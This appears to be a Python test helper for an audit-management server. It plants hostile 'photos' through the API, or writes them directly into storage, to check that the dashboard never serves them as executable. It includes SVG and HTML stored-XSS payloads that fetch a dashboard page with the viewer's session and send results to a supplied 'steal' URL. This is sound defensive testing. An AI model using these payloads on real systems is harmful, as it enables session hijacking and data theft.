"""Put a hostile "photo" into a real HQ the way an attacker's device would.

First through the API, as a device would send it. An HQ that sniffs uploads refuses that;
then the same bytes are written straight into the store, as an older HQ would have accepted
them (the document names the photo with the attacker's `media_type`, the blob is held and
its device owns it): the dashboard must still not serve it as anything that runs.
"""
from __future__ import annotations

import hashlib
import json
import uuid

import httpx

API = "/api/v1"


def _doc(photo: dict | None, observed: str) -> dict:
    return {"id": str(uuid.uuid4()), "supplier_id": "x", "supplier_code": "S001",
            "site_id": "y", "site_name": "Kawasaki plant", "template_ref": "svr@1",
            "kind": "svr", "planned_date": "2026-05-01", "status": "signed",
            "content_hash": "0" * 64, "photos": [photo] if photo else [],
            "findings": [{"id": str(uuid.uuid4()), "area": "HR", "severity": "minor",
                          "status": "open", "observed": observed}]}


def plant_photo(hq, token: str, data: bytes, media_type: str, *,
                observed: str = "exit blocked") -> tuple[str, str, bool]:
    """Returns (audit id, sha256, True if the API took it)."""
    sha = hashlib.sha256(data).hexdigest()
    photo = {"id": str(uuid.uuid4()), "sha256": sha, "size": len(data),
             "media_type": media_type, "width": 640, "height": 480, "filename": "x.jpg"}
    headers = {"Authorization": f"Bearer {token}"}
    with httpx.Client(base_url=hq.url + API, headers=headers, trust_env=False,
                      timeout=30) as c:
        doc = _doc(photo, observed)
        photo["finding_id"] = doc["findings"][0]["id"]
        if c.post("/audits", json=doc).status_code == 200:
            r = c.put(f"/blobs/{sha}", content=data,
                      headers={"Content-Range": f"bytes 0-{len(data) - 1}/{len(data)}"})
            if r.status_code == 201:
                return doc["id"], sha, True
        # refused: store it as an HQ from before the fix would have kept it
        plain = _doc(None, observed)
        c.post("/audits", json=plain).raise_for_status()
    photo["finding_id"] = plain["findings"][0]["id"]
    path = hq.storage.blob_dir / sha[:2] / sha
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    with hq.storage.transaction() as tx:
        row = tx.one("SELECT device_id, document FROM audits WHERE id = ?", (plain["id"],))
        stored = json.loads(row["document"])
        stored["photos"] = [photo]
        tx.execute("UPDATE audits SET document = ? WHERE id = ?",
                   (json.dumps(stored), plain["id"]))
        tx.execute("INSERT INTO audit_blobs (audit_id, sha256, size) VALUES (?,?,?)",
                   (plain["id"], sha, len(data)))
        tx.execute("INSERT INTO blobs (sha256, size, stored_at) VALUES (?,?,?)",
                   (sha, len(data), "2026-01-01T00:00:00Z"))
        tx.execute("INSERT INTO blob_owners (sha256, device_id, received_at) VALUES (?,?,?)",
                   (sha, row["device_id"], "2026-01-01T00:00:00Z"))
    return plain["id"], sha, False


def svg_payload(steal_url: str) -> bytes:
    """An SVG "photo" whose script reads a dashboard page with the viewer's session and
    sends it away."""
    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>'
            f'fetch("/dashboard/caps").then(r => r.text()).then(t => {{'
            f'new Image().src = "{steal_url}?svg=" + t.length; }});'
            f'new Image().src = "{steal_url}?svg-ran=1"; document.title = "XSS";'
            f'</script></svg>').encode()


def html_payload(steal_url: str) -> bytes:
    return (f'<html><body><script>new Image().src = "{steal_url}?html-ran=1";'
            f'document.title = "XSS";</script></body></html>').encode()
